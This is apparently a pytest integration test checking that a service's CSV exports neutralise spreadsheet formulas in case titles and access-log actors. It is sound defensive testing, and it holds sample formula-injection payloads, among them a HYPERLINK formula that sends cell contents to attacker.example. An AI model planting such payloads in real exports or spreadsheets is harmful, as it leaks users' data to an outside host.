"""Every CSV export of the service neutralises cells a spreadsheet would run as formulas (chassis.csv_export)."""

import csv
import io

import pytest

from joint_action_service.tests.conftest import case_body

pytestmark = pytest.mark.integration

FORMULAS = ('=HYPERLINK("http://attacker.example/?"&A1,"details")', "+1+cmd", "-2+3+cmd", "@SUM(A1:A9)")


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def test_the_dashboard_csv_neutralises_case_titles_that_are_formulas(world):
    for title in FORMULAS:
        world.tha.created("/cases", case_body(world.jpa_id, title=title))

    rows = csv_rows(world.tha.get(f"/jpas/{world.jpa_id}/dashboard.csv"))

    titles = [row["title"] for row in rows]
    assert {"'" + title for title in FORMULAS} <= set(titles)
    assert not [title for title in titles if title[:1] in "=+-@"]


def test_the_access_log_csv_neutralises_actors_that_are_formulas_and_the_json_keeps_them_exact(world, caller):
    for formula in FORMULAS:
        assert caller("IDN", sub=formula).get(world.case_path()).status_code == 200
    lead_auditor = caller("THA", "auditor")

    actors = [row["actor"] for row in csv_rows(lead_auditor.get("/access-log", query_string={"format": "csv"}))]

    assert actors[-len(FORMULAS):] == ["'" + formula for formula in FORMULAS]
    exported = lead_auditor.get("/access-log").get_json()
    assert [row["actor"] for row in exported[-len(FORMULAS):]] == list(FORMULAS)
